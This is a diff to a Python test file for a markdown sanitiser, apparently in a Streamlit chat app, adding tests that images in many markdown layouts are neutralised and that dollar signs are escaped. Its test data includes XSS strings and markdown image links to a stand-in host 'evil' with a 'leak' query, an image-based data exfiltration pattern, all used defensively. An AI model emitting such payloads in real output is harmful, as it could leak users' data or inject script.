@@ -33,8 +33,40 @@ def test_sanitize_neutralises_images_outside_code(text, expected):
 
 
 def test_sanitize_keeps_html_as_text_for_streamlit_to_escape():
-    payload = "<script>alert(1)</script> <img src=x onerror=alert(2)> **bold**"
-    assert sanitize_markdown(payload) == payload
+    payload = "Hi <script>alert(1)</script> <img src=x onerror=alert(2)> **bold** ![i](http://e/i)"
+    out = sanitize_markdown(payload)
+    assert out == payload.replace("![i]", "\\![i]")   # HTML untouched (Streamlit escapes it)
+
+
+def _renders_image(markdown: str) -> bool:
+    from markdown_it import MarkdownIt
+
+    return "<img" in MarkdownIt("commonmark").render(markdown)
+
+
+@pytest.mark.parametrize("text", [
+    "\\`x ![a](http://evil/x?leak) `\n",                       # escaped backtick opens no span
+    "`a\n\n![a](http://evil/x?leak)\n\n`\n",                  # spans do not cross paragraphs
+    "- ```\n  code\n  ```\n![a](http://evil/x?leak)\n",         # fence inside a list item
+    "```x`\n![a](http://evil/x?leak)\n",                        # backtick in info: not a fence
+    "[![i](http://e/i)](http://l)",                              # image inside a link
+    "a\n![x\ny](http://e/z)\nb",                                # image over two lines
+    "![a][r]\n\n[r]: http://e/x\n",                              # reference image
+    "# ![h](http://e/h)\n\n> ![q](http://e/q)\n\n| ![t](http://e/t) |\n",
+])
+def test_no_markdown_layout_lets_an_image_through(text):
+    assert _renders_image(text)            # the payload really is an image...
+    assert not _renders_image(sanitize_markdown(text))   # ...and no longer is
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("costs $5 to $10", "costs \\$5 to \\$10"),
+    ("shell `echo $HOME` and $x", "shell `echo $HOME` and \\$x"),
+    ("```sh\necho $PATH\n```\n", "```sh\necho $PATH\n```\n"),
+    ("already \\$5", "already \\$5"),
+])
+def test_dollars_stay_dollars_not_latex(text, expected):
+    assert sanitize_markdown(text) == expected
 
 
 # -- stable_prefix_end / StreamView ------------------------------------------------------------
